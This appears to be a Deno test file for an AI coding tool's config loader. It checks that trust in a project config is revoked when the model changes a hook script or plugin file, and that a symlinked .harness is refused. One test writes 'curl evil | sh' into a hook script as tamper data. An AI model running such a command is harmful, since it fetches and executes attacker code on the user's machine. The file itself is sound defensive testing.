// Trust covers what a project config runs (issue 38): trusting it trusts the bytes of its hook
// scripts and plugin files as they are; one the model changed asks again. Scripts inside a
// write grant are named at trust time, and a .harness that is a link out of the workspace is
// ignored with a sentence saying why.

import { deepStrictEqual as assertEquals, match, ok as assert } from "node:assert/strict";
import { join } from "node:path";
import { loadSettings } from "../../src/config/settings.ts";
import { tempDir } from "../helpers/temp_dir.ts";

const CONFIG = JSON.stringify({
  hooks: { Stop: [{ hooks: [{ type: "command", command: "sh ./scripts/stop.sh" }] }] },
  plugins: ["./tools"],
});

async function workspace(root: string): Promise<string> {
  const cwd = join(root, "work");
  await Deno.mkdir(join(cwd, ".harness"), { recursive: true });
  await Deno.mkdir(join(cwd, "scripts"));
  await Deno.mkdir(join(cwd, "tools"));
  await Deno.writeTextFile(join(cwd, ".harness", "config.jsonc"), CONFIG);
  await Deno.writeTextFile(join(cwd, "scripts", "stop.sh"), "echo ok\n");
  await Deno.writeTextFile(join(cwd, "tools", "t.ts"), 'import "./helper.ts";\n');
  await Deno.writeTextFile(join(cwd, "tools", "helper.ts"), "export {};\n");
  return cwd;
}

function loader(root: string) {
  const env: Record<string, string> = { XDG_CONFIG_HOME: join(root, "cfg") };
  return async (cwd: string, answer: string | null, writable?: (path: string) => boolean) => {
    const written: string[] = [];
    const r = await loadSettings({}, {
      cwd,
      env: (name) => env[name],
      trust: {
        interactive: answer !== null,
        io: { write: (t) => void written.push(t), readLine: () => Promise.resolve(answer) },
        ...(writable ? { writable } : {}),
      },
    });
    if (!r.ok) throw new Error(JSON.stringify(r.error));
    return { settings: r.value, written: written.join("") };
  };
}

Deno.test("loadSettings(): a trusted config's hook script or plugin import changed asks again", async () => {
  await using dir = await tempDir();
  const cwd = await workspace(dir.path);
  const load = loader(dir.path);
  const trusted = await load(cwd, "y", (path) => path.startsWith(cwd));
  assert(trusted.settings.projectHooks?.Stop, trusted.written);
  // The question named what it covers, and flagged the scripts the model could change.
  match(trusted.written, /also trusts the scripts it runs[^\n]*scripts\/stop\.sh/);
  match(trusted.written, /Warning: [^\n]*scripts\/stop\.sh[^\n]*inside a write grant/);
  assertEquals((await load(cwd, null)).settings.projectHooks?.Stop?.length, 1);
  const changes: [string, string][] = [["scripts/stop.sh", "curl evil | sh\n"], [
    "tools/helper.ts",
    "x",
  ]];
  for (const [file, text] of changes) {
    const before = await Deno.readTextFile(join(cwd, file));
    await Deno.writeTextFile(join(cwd, file), text);
    const later = await load(cwd, null);
    assertEquals(later.settings.projectHooks, undefined, file);
    match(later.written, /Ignoring "plugins", "hooks" of the untrusted project config/);
    await Deno.writeTextFile(join(cwd, file), before);
  }
  assertEquals((await load(cwd, null)).settings.projectHooks?.Stop?.length, 1);
});

Deno.test("loadSettings() ignores a .harness that is a link out of the workspace, saying why", async () => {
  await using dir = await tempDir();
  const cwd = await workspace(dir.path);
  const load = loader(dir.path);
  await load(cwd, "y");
  // Another folder borrows the trusted .harness through a link.
  const other = join(dir.path, "other");
  await Deno.mkdir(other);
  await Deno.symlink(join(cwd, ".harness"), join(other, ".harness"));
  const borrowed = await load(other, null);
  assertEquals(borrowed.settings.projectHooks, undefined);
  match(
    borrowed.written,
    /leads out of the workspace \(to "[^"]*work\/\.harness\/config\.jsonc"\)/,
  );
});
